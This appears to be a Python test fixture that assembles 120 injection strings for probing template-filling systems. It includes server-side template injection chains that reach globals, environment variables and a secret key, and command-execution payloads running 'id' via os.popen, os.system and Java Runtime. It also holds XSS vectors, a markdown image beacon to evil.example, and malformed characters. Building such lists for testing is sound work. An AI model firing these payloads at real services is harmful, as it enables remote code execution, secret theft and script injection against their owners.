"""What people try on systems that fill templates: 120 texts that mean something to some engine, or break a format."""

from __future__ import annotations

NAMES = ("settings.SECRET_KEY", "request.user.password", "customer_name.__class__", "config.items()", "self.__init__.__globals__")
ENGINES = ("{{{{ {} }}}}", "{{{{{{ {} }}}}}}", "{{% {} %}}", "{{{}}}", "${{{}}}", "#{{{}}}")
ENGINES += ("<%= {} %>", "@({})", "*{{{}}}", "[[${{{}}}]]", "%({})s", "{{{}!r:>9}}")
FROM_ENGINES = [engine.format(name) for engine in ENGINES for name in NAMES]
DJANGO = [
    "{% load i18n %}{% debug %}",
    "{% include 'admin/login.html' %}",
    "{% extends 'base.html' %}",
    "{% csrf_token %}",
    "{{ provider_name|safe }}",
    "{{ provider_name }}",
    "{{recipients}}",
    "{{ recipient_name }}",
    "{{ secret }}",
    "{# comment #}",
    "{% url 'home' %}",
    "{{ block.super }}",
    "{{ customer_name }}{{ customer_name }}",
    "{{ 7|add:7 }}",
    "{% verbatim %}{{ x }}{% endverbatim %}",
]
CHAINS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].environ }}",
    "{event.__init__.__code__.co_filename}",
    "{0.__class__.__init__.__globals__}",
    "{self.settings.DATABASES}",
    "__import__('os').system('id')",
    "{{ 7*7 }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ [].append(1) or 49 }}",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "{php}echo 49;{/php}",
    "{{range.constructor('return 49')()}}",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</section></main><h1>Taken over</h1>",
    "<!--",
    "<![CDATA[x]]>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "# heading",
    "- entry",
    "1. entry",
    "> quote",
    "```\ncode\n```",
    "**bold** _it_ ~~gone~~",
    "| a | b |",
    "&lt;b&gt; &amp;lt; &#60;",
    "a\n\n• entry of a list",
    "a\r\nb\u2028c\u2029d",
    "=HYPERLINK(1)",
    "\\u0041 \\n \\x41",
]
CHARACTERS = [
    "null\x00byte",
    "bell\x07 escape\x1b[31m",
    "\u202eturned\u202c around",
    "\u200bzero\u200dwidth\ufeff",
    "soft\u00adhyphen",
    "\ufffe not a character",
    "emoji 🙂 and 𝕌nicode",
    "combining e\u0301\u0301\u0301",
    "{" * 40 + "}" * 40,
    "%s%s%n%x" * 5,
]
PAYLOADS = FROM_ENGINES + DJANGO + CHAINS + MARKUP + CHARACTERS
